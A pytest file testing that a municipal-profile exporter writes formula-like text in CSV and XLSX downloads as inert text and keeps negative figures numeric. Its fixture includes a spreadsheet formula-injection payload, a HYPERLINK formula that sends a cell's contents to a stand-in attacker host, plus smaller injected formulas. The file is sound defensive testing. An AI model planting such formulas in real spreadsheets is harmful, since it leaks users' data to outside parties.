"""Kommunalprofil downloads (CSV, XLSX): text from imported files that a spreadsheet program would
run as a formula arrives as text; the figures, negative ones included, stay numbers
(issue 13, defect 6)."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from leuchtfeuer.places import exports
from leuchtfeuer.places.models import Region
from leuchtfeuer.places.profile import build_profile

pytestmark = pytest.mark.usefixtures("official_data")

FORMULA = '=HYPERLINK("https://angreifer.example/?d="&C3,"Quelle")'


def _profile():
    profile = build_profile(Region.objects.get(level="gemeinde", ags="13071092"))
    profile.indicators[0] = replace(profile.indicators[0], source=FORMULA, notes=("@SUM(1+1)",))
    profile.series[0] = replace(profile.series[0], source="-2+3", territory="+1+1")
    return profile


def test_profile_csv_quotes_formulas_and_keeps_negative_figures(db):
    rows = list(csv.reader(io.StringIO(exports.profile_csv(_profile())), delimiter=";"))
    header = rows[1]
    first = dict(zip(header, rows[2], strict=True))
    assert (first["Quelle"], first["Hinweise"]) == ("'" + FORMULA, "'@SUM(1+1)")
    figures = [row[i] for row in rows[2:] if len(row) == len(header) for i in (2, 4, 5, 6) if row[i]]
    negative = [v for v in figures if v.startswith("-")]
    assert negative and all(re.fullmatch(r"-\d+(,\d+)?", v) for v in negative)  # not quoted


def test_profile_xlsx_writes_formulas_as_text(db):
    workbook = load_workbook(io.BytesIO(exports.profile_xlsx(_profile())))
    indicators, series = workbook["Indikatoren"], workbook["Bevölkerung"]
    source = indicators.cell(row=3, column=10)
    assert (source.value, source.data_type) == (FORMULA, "s")
    assert [(c.value, c.data_type) for c in series[2][2:5]] == [
        (series[2][2].value, "s"),
        ("+1+1", "s"),
        ("-2+3", "s"),
    ]
    figures = [row[2] for row in indicators.iter_rows(min_row=3) if isinstance(row[2].value, int | float)]
    assert any(c.value < 0 for c in figures) and all(c.data_type == "n" for c in figures)
